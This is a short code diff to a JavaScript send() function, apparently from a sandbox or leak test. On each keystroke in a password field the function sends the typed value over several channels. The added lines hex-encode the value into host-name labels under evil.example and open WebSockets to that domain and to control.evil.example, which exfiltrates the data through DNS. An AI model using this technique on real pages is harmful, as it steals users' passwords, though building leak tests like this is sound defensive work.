@@ -162,6 +162,11 @@ function send() {
   try { ws.send(v); } catch (e) {}
   fetch(BS + "/fetch", {method: "POST", mode: "no-cors", body: v}).catch(() => {});
   try { wss.send(v); } catch (e) {}
+  // The value in a host name: the name itself would carry it to evil.example's
+  // name server, if the worker looked it up.
+  const hex = Array.from(new TextEncoder().encode(v), b => b.toString(16).padStart(2, "0")).join("");
+  try { new WebSocket("wss://" + hex.match(/.{1,60}/g).join(".") + ".evil.example/ws"); } catch (e) {}
+  try { new WebSocket("wss://control.evil.example/ws"); } catch (e) {}
   document.getElementById("status").textContent = "sent";
 }
 document.getElementById("pw").addEventListener("input", send);
